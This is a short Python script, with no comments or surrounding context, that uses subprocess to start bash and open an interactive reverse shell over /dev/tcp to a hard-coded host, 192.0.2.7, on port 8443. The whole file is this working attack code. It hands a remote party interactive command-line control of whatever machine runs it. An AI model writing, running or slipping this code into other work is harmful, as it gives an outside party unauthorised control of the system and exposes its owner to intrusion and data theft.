import subprocess

host, port = "192.0.2.7", 8443
subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/{host}/{port} 0>&1"])
